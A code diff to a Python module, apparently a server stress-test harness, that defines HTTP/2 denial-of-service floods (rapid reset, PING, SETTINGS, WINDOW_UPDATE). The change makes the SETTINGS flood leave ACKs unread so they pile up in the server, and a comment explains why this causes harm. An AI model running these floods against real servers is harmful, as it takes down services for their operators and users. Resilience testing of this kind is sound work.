@@ -273,17 +273,25 @@ def rapid_reset(method: str, per_write: int = 100, per_connection: int = 200_000
     return lambda port, seconds: _on_connections(port, seconds, one)
 
 
-def _flood(make: Callable[[Peer], bytes], per_write: int = 200) -> Attack:
+def _flood(
+    make: Callable[[Peer], bytes], per_write: int = 200, *, reads_answers: bool = True
+) -> Attack:
     def one(p: Peer, deadline: float) -> None:
         while not p.done and time.monotonic() < deadline:
             p.flush(make(p) * per_write, per_write)
-            p.poll()
+            if reads_answers:
+                p.poll()
 
     return lambda port, seconds: _on_connections(port, seconds, one)
 
 
 ping_flood = _flood(lambda p: frame(PING, 0, 0, b"12345678"))
-settings_flood = _flood(lambda p: frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)))
+# Every SETTINGS frame is answered with an ACK: the flood that does harm leaves them unread,
+# so that they pile up in the server. A peer that reads them as fast as the server writes them
+# is only served, faster or slower with the machine's speed.
+settings_flood = _flood(
+    lambda p: frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)), reads_answers=False
+)
 window_update_flood = _flood(lambda p: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
 
 
